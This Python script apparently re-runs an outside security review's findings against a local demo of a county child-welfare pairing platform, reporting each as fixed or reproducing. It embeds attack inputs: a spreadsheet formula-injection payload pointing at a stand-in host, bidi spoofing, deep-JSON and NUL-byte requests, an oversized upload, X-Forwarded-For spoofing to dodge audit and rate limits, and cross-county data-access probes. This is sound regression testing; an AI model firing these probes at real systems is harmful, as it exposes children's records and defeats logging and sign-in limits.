"""Try the outside review's attacks again, over HTTP, with the demo accounts of `make run`.

Not a pytest module (each finding has its own test in tests/hardening): this is the
review itself, repeated from outside against a running platform, as issue 15 asks.

    make run                      # in one terminal (demo data, http://127.0.0.1:8000)
    .venv/bin/python -m tests.hardening.review_probes --base http://127.0.0.1:8000

Each probe prints "fixed" or "REPRODUCES" with what it saw; the exit status is 1 if any
reproduces. It writes a little demo data (a check-in, two children, a concern) and, at
the end, trips the sign-in limit for a made-up user name (the lock lifts by itself).
"""

import argparse
import io
import json
import re
import sys
import uuid

import requests

DEMO = {
    "admin": "Admin@2026!",
    "qinshui": "Qinshui@2026",
    "zezhou": "Zezhou@2026",
    "jincheng": "Jincheng@2026",
    "longgang": "Longgang@2026",
    "liuzhuang": "Liuzhuang@2026",
}
MISSING = 987654321


class Client:
    def __init__(self, base: str, username: str | None = None):
        self.base = base.rstrip("/")
        self.http = requests.Session()
        self.username = username
        if username:
            login = "/admin/login/" if username == "admin" else "/staff/login/"
            self.http.get(self.base + login)
            got = self.post_form(login, {"username": username, "password": DEMO[username]})
            if got.status_code != 302:
                raise SystemExit(f"could not sign in as {username}: {got.status_code}")

    def _headers(self, extra=None):
        return {"X-CSRFToken": self.http.cookies.get("csrftoken", ""), "Referer": self.base + "/", **(extra or {})}

    def get(self, path, **kw):
        return self.http.get(self.base + path, allow_redirects=False, **kw)

    def api(self, method, path, body=None, headers=None):
        return self.http.request(
            method,
            self.base + path,
            data=json.dumps(body) if body is not None else None,
            headers=self._headers({"Content-Type": "application/json", **(headers or {})}),
            allow_redirects=False,
        )

    def post_form(self, path, data, files=None):
        if "csrftoken" not in self.http.cookies:
            self.http.get(self.base + path)
        data = {**data, "csrfmiddlewaretoken": self.http.cookies.get("csrftoken", "")}
        return self.http.post(self.base + path, data=data, files=files, headers=self._headers(), allow_redirects=False)

    def results(self, path):
        got = self.get(path, headers={"Accept": "application/json"})
        got.raise_for_status()
        body = got.json()
        return body["results"] if isinstance(body, dict) and "results" in body else body


FINDINGS: list[tuple[str, bool, str]] = []


def report(item: str, reproduces: bool, seen: str):
    FINDINGS.append((item, reproduces, seen))
    print(f"{'REPRODUCES' if reproduces else 'fixed     '}  {item}: {seen}")


def alike(a: requests.Response, b: requests.Response, *ids) -> bool:
    def norm(r):
        text = r.text
        for value in ids:
            text = re.sub(rf"(?<!\d){value}(?!\d)", "<id>", text)
        return r.status_code, text

    return norm(a) == norm(b)


RUN = uuid.uuid4().int % 900 + 100  # a new ID number on every run


def id_number(order: int) -> str:
    body = f"140521201105{order:02d}{RUN:03d}"  # 沁水县, born 2011-05-<order>
    weights = (7, 9, 10, 5, 8, 4, 2, 1, 6, 3, 7, 9, 10, 5, 8, 4, 2)
    total = sum(int(d) * w for d, w in zip(body, weights, strict=True))
    return body + "10X98765432"[total % 11]


def _a_pairing_of(county: Client, city: Client) -> dict:
    """One of the county's pairings; in the demo 泽州县's wait as proposals, so approve one."""
    pairings = county.results("/api/pairing/pairings/")
    if not pairings:
        proposal = county.results("/api/pairing/proposals/?status=proposed")[0]
        for who in (county, city):
            who.api("post", f"/api/pairing/proposals/{proposal['id']}/approve/", {"override_note": "审核通过"})
        pairings = county.results("/api/pairing/pairings/")
    if not pairings:
        raise SystemExit("the other county has no pairing to try item 1 with")
    return pairings[0]


def _page(response, phone: str) -> str:
    """A page without what differs between two visitors: the number typed, CSRF token, render time."""
    text = response.text.replace(phone, "N")
    text = re.sub(r'name="csrfmiddlewaretoken" value="[^"]*"', "", text)
    return re.sub(r'data-rendered-(at|words)="[^"]*"', "", text)


def _first_change(a: str, b: str) -> str:
    for x, y in zip(a.splitlines(), b.splitlines(), strict=False):
        if x != y:
            return f"{x.strip()[:100]!r} vs {y.strip()[:100]!r}"
    return ""


def _code_sent_to(admin: Client, phone: str, tries: int = 20) -> str | None:
    """The newest sign-in code the local channel "delivered" to a phone (the demo's SMS inbox)."""
    import time

    for _ in range(tries):
        page = admin.get(f"/admin/notifications/localdelivery/?q={phone.lstrip('+')}")
        found = re.findall(r"(?<!\d)(\d{6})(?!\d)", re.sub(r"<[^>]+>", " ", page.text.split("result_list")[-1]))
        if found:
            return found[0]
        time.sleep(1)
    return None


def run(base: str):
    qinshui, zezhou = Client(base, "qinshui"), Client(base, "zezhou")
    director, admin = Client(base, "liuzhuang"), Client(base, "admin")
    their_volunteers = zezhou.results("/api/volunteers/volunteers/")
    their_children = zezhou.results("/api/children/")
    our_children = qinshui.results("/api/children/")
    their_names = {v["name"] for v in their_volunteers} | {c["name"] for c in their_children}
    volunteer = their_volunteers[0]
    our_pairings = qinshui.results("/api/pairing/pairings/")
    programme = our_pairings[0]["programme"]

    # 1. A check-in looked up by another county's volunteer and a key she used.
    their_pairing = _a_pairing_of(zezhou, Client(base, "jincheng"))
    key = f"probe-{uuid.uuid4().hex[:12]}"
    made = zezhou.api(
        "post",
        "/api/checkins/",
        {
            "volunteer": their_pairing["volunteer"],
            "children": [their_pairing["child"]["id"]],
            "kind": "phone_call",
            "client_key": key,
            "note": "探访笔记",
        },
    )
    body = {"children": [our_children[0]["id"]], "kind": "phone_call", "client_key": key}
    got = qinshui.api("post", "/api/checkins/", {**body, "volunteer": their_pairing["volunteer"]})
    absent = qinshui.api("post", "/api/checkins/", {**body, "volunteer": MISSING})
    if made.status_code != 201:
        raise SystemExit(f"the other county could not log a check-in: {made.status_code} {made.text[:300]}")
    report(
        "1 check-in by another county's volunteer and key",
        "探访笔记" in got.text or not alike(got, absent, their_pairing["volunteer"], MISSING),
        f"made {made.status_code}; other county {got.status_code}, missing {absent.status_code}",
    )

    # 2. Pairing one's own child with another county's volunteer.
    body = {"programme": programme, "child": our_children[0]["id"], "override_note": "测试"}
    got = qinshui.api("post", "/api/pairing/pairings/", {**body, "volunteer": volunteer["id"]})
    absent = qinshui.api("post", "/api/pairing/pairings/", {**body, "volunteer": MISSING})
    report(
        "2 pairing with another county's volunteer",
        got.status_code < 400 or volunteer["name"] in got.text or not alike(got, absent, volunteer["id"], MISSING),
        f"other county {got.status_code}, missing {absent.status_code}",
    )
    got = qinshui.post_form("/staff/pairing/pairings/new/", {**body, "volunteer": volunteer["id"]})
    absent = qinshui.post_form("/staff/pairing/pairings/new/", {**body, "volunteer": MISSING})
    report(
        "2 (workspace) pairing form with another county's volunteer",
        got.status_code < 400 or volunteer["name"] in got.text,
        f"other county {got.status_code}, missing {absent.status_code}",
    )

    # 3. The browsable API's forms.
    for who in (director, qinshui):
        page = who.get("/api/pairing/pairings/?format=api", headers={"Accept": "text/html"})
        shown = sorted(n for n in their_names if n and n in page.text)
        report(
            f"3 browsable API forms as {who.username}",
            bool(shown),
            f"{page.status_code}, other county's names {shown[:3]}",
        )

    # 4. Programme-level settings of the city programme.
    for who in (director, qinshui):
        page = who.get("/admin/checkins/contactrule/add/")
        got = who.post_form(
            "/admin/checkins/contactrule/add/",
            {"programme": programme, "kind": "phone_call", "every_days": "7", "grace_days": "3"},
        )
        report(
            f"4 city programme's contact rule as {who.username}",
            got.status_code == 302 and "add" not in got.headers.get("Location", ""),
            f"form {page.status_code}, post {got.status_code}",
        )

    # 7. Non-ASCII digits in an ID number.
    child = {
        "family_name": "王",
        "given_name": "探测",
        "village": our_children[0]["village"],
        "category": "left_behind",
        "guardian_name": "王奶奶",
        "guardian_relation": "grandparent",
        "consent_given_by": "王奶奶",
        "consent_relation": "祖母",
        "consent_given_on": "2026-11-01",
    }
    devanagari = id_number(11)[:6] + "".join(chr(0x966 + int(d)) for d in id_number(11)[6:17]) + id_number(11)[17]
    got = qinshui.api("post", "/api/children/", {**child, "id_number": devanagari})
    report("7 Devanagari digits in an ID number", got.status_code < 400, f"{got.status_code} {got.text[:120]}")

    # 8 and 16. A formula and bidi characters in a name.
    formula = '=HYPERLINK("http://evil.example/"&A1,"点此查看")'
    got = qinshui.api(
        "post",
        "/api/children/",
        {
            **child,
            "family_name": "李",
            "given_name": "\u202e探测\u200b",
            "id_number": id_number(12),
            "needs_note": formula,
        },
    )
    stored = got.json() if got.status_code == 201 else {}
    report(
        "16 bidi and zero-width characters in a name",
        "\u202e" in json.dumps(stored, ensure_ascii=False) or "\u200b" in stored.get("given_name", ""),
        f"{got.status_code} given name {stored.get('given_name')!r}",
    )
    formula_child = qinshui.api(
        "post", "/api/children/", {**child, "given_name": "公式", "school": formula, "id_number": id_number(13)}
    )
    ledger = qinshui.get("/api/children/ledger.xlsx")
    live = False
    if ledger.status_code == 200:
        from openpyxl import load_workbook

        book = load_workbook(io.BytesIO(ledger.content))
        live = any(
            cell.data_type == "f" or str(cell.value or "").startswith("=")
            for sheet in book.worksheets
            for row in sheet.iter_rows()
            for cell in row
        )
    report(
        "8 formula in a name, in ledger.xlsx", live, f"child {formula_child.status_code}, ledger {ledger.status_code}"
    )

    # 9. A full ID number in the audit log.
    full = id_number(12)
    qinshui.get(f"/api/children/?id_number={full}")
    events = admin.results("/api/audit/events/")
    report(
        "9 full ID number in the audit log", any(full in json.dumps(e) for e in events), f"{len(events)} events read"
    )

    # 10. Reads that leave no audit row (the newest events name the paths just read).
    for path in ("/api/pairing/pairings/", "/api/checkins/", f"/staff/r/{our_children[0]['village']}/"):
        qinshui.get(path)
        events = admin.results("/api/audit/events/")
        seen = any(e["path"].startswith(path) and e["actor_name"] for e in events[:20])
        report(f"10 read of {path} audited", not seen, "audit row found" if seen else "no audit row")

    # 11. X-Forwarded-For in the audit address.
    qinshui.get(f"/api/children/{our_children[0]['id']}/", headers={"X-Forwarded-For": "6.6.6.6"})
    events = admin.results("/api/audit/events/")
    report("11 forwarded address trusted in the audit", any(e["ip_address"] == "6.6.6.6" for e in events[:20]), "")

    # 13. Deep JSON and NUL bytes.
    deep = "[" * 1000 + "]" * 1000
    got = requests.post(base + "/api/volunteers/applications/", data=deep, headers={"Content-Type": "application/json"})
    report("13 1,000-deep JSON", got.status_code >= 500, f"{got.status_code}")
    for path in ("/staff/r/%00/", "/api/dashboard/regions/%00/", "/admin/children/child/%00/change/"):
        got = qinshui.get(path)
        report(f"13 NUL byte in {path}", got.status_code >= 500, f"{got.status_code}")

    # 14. A 30 MB anonymous upload.
    anonymous = Client(base)
    anonymous.get("/apply/")
    got = anonymous.post_form("/apply/", {"name": "x"}, files={"photo": ("evil.jpg.html", b"0" * 30_000_000)})
    report("14 30 MB upload to /apply/", got.status_code < 400, f"{got.status_code}")

    # 15. Cache-Control on personal data.
    for path in (
        f"/api/children/{our_children[0]['id']}/",
        f"/staff/children/{our_children[0]['id']}/",
        "/api/children/ledger.xlsx",
    ):
        got = qinshui.get(path)
        report(
            f"15 no-store on {path}",
            "no-store" not in got.headers.get("Cache-Control", ""),
            got.headers.get("Cache-Control", ""),
        )

    # 5, 6 and 17. A volunteer signs in with the code from the local outbox (the demo's phone).
    mother_row = next((v for v in their_volunteers if v["id"] == their_pairing["volunteer"]), volunteer)
    phone = mother_row["phone"]
    stranger = f"+86139{uuid.uuid4().int % 10**8:08d}"  # a number that is nobody's
    # Item 6 with a volunteer picked at random (each number's own send limit is per hour).
    someone = their_volunteers[uuid.uuid4().int % len(their_volunteers)]["phone"]
    sent = Client(base).post_form("/v/login/", {"phone": someone, "action": "send"})
    other = Client(base).post_form("/v/login/", {"phone": stranger, "action": "send"})
    report(
        "6 /v/login/ tells a volunteer's number from another",
        sent.status_code != other.status_code or _page(sent, someone) != _page(other, stranger),
        f"{sent.status_code} / {other.status_code} {_first_change(_page(sent, someone), _page(other, stranger))}",
    )
    Client(base).post_form("/v/login/", {"phone": phone, "action": "send"})
    code = _code_sent_to(admin, phone)
    if code is None:
        report("5/17 volunteer sign-in", True, "no code reached the local outbox (is a Celery worker running?)")
    else:
        mother = Client(base)
        signed = mother.post_form("/v/login/", {"phone": phone, "code": code, "action": "verify"})
        pairings = mother.results("/api/pairing/pairings/") if signed.status_code == 302 else []
        notes = [p for p in pairings if p.get("status") != "active" or p.get("end_note") or p.get("override_note")]
        report(
            "5 a volunteer's pairings: current only, no notes",
            signed.status_code != 302 or bool(notes),
            f"{len(pairings)} pairings",
        )
        outbox = json.dumps(admin.results("/api/notifications/messages/"), ensure_ascii=False)
        report("17 one-time code in clear in the outbox rows", code in outbox, "")

    # Reading another county's child by id, on every surface.
    theirs = their_children[0]["id"]
    for path in (f"/api/children/{theirs}/", f"/staff/children/{theirs}/", f"/staff/children/{theirs}/edit/"):
        got = qinshui.get(path)
        report(f"read another county's child at {path}", got.status_code == 200, f"{got.status_code}")

    # 11. Per-IP sign-in limit reset by a new X-Forwarded-For (last: it locks a made-up name).
    statuses = []
    for n in range(12):
        attempt = Client(base)
        attempt.get("/staff/login/")
        got = attempt.http.post(
            base + "/staff/login/",
            data={
                "username": "probe-nobody",
                "password": "x",
                "csrfmiddlewaretoken": attempt.http.cookies.get("csrftoken", ""),
            },
            headers={"X-Forwarded-For": f"10.0.0.{n}", "Referer": base + "/"},
            allow_redirects=False,
        )
        statuses.append(got.status_code)
    report("11 sign-in limit reset by X-Forwarded-For", 429 not in statuses and 403 not in statuses, f"{statuses}")


def main():
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("--base", default="http://127.0.0.1:8000")
    run(parser.parse_args().base)
    bad = [f for f in FINDINGS if f[1]]
    print(f"\n{len(FINDINGS)} probes, {len(bad)} reproduce")
    sys.exit(1 if bad else 0)


if __name__ == "__main__":
    main()
